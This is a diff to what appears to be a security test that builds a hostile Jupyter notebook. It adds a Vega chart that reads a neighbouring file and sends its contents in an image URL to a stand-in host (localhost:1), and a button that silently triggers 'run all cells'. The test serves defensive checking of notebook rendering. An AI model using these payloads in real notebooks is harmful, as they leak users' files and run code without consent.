@@ -10,6 +10,11 @@ from ipywidgets.embed import dependency_state
 STATE = "application/vnd.jupyter.widget-state+json"
 VIEW = "application/vnd.jupyter.widget-view+json"
 RAN = "ran uninvited: "  # begins what a script of the hostile notebook writes on the console
+VEGA = "application/vnd.vega.v5+json"
+BESIDE = "beside.json"  # a file in the notebook's folder
+ELSEWHERE = "http://localhost:1/"  # where the notebook would send what stands in that file
+COMMAND = "data-commandlinker-command"
+ALIVE = f".jp-Notebook :is([{COMMAND}], .jp-RenderedVegaCommon5)"  # what is not to be on the page
 
 
 def script(way):
@@ -40,6 +45,21 @@ def svg(way):
         f"<script>{script(f'{way}, script')}</script><text y='20'>{way}</text>"
         f"<foreignObject>{image(f'{way}, image')}</foreignObject></svg>"
     )
+
+
+def button(way):
+    """What runs all cells once it is pressed, whatever stands on it."""
+    return f'<button {COMMAND}="notebook:run-all-cells">{way}</button>'
+
+
+def drawing():
+    """A drawing in Vega, which is data: it reads the file and asks elsewhere for an image."""
+    read = {"name": "read", "url": BESIDE, "format": {"type": "json"}}
+    address = {"signal": f"'{ELSEWHERE}' + datum.text"}
+    image = {"url": address, "width": {"value": 9}, "height": {"value": 9}}
+    mark = {"type": "image", "from": {"data": "read"}, "encode": {"enter": image}}
+    schema = "https://vega.github.io/schema/vega/v5.json"
+    return {"$schema": schema, "width": 50, "height": 50, "data": [read], "marks": [mark]}
 
 
 class Scripted(anywidget.AnyWidget):
@@ -78,10 +98,18 @@ def hostile():
     flow = (
         f'```mermaid\nflowchart LR\n  a["{image("Mermaid").replace(chr(34), "#quot;")}"] --> b\n```'
     )
-    texts = [html("Markdown"), svg("Markdown SVG"), flow, f"# Heading {image('heading')}"]
+    texts = [
+        html("Markdown"),
+        button("Markdown button"),
+        svg("Markdown SVG"),
+        flow,
+        f"# Heading {image('heading')}",
+    ]
     drawn = base64.b64encode(svg("attachment").encode()).decode()
     seen, unseen = widgets()
     outputs = [
+        bundle(VEGA, drawing()),
+        bundle("text/html", button("HTML button")),
         bundle("text/html", html("HTML")),
         bundle("text/html", html("isolated HTML"), **{"text/html": {"isolated": True}}),
         bundle("image/svg+xml", svg("SVG")),
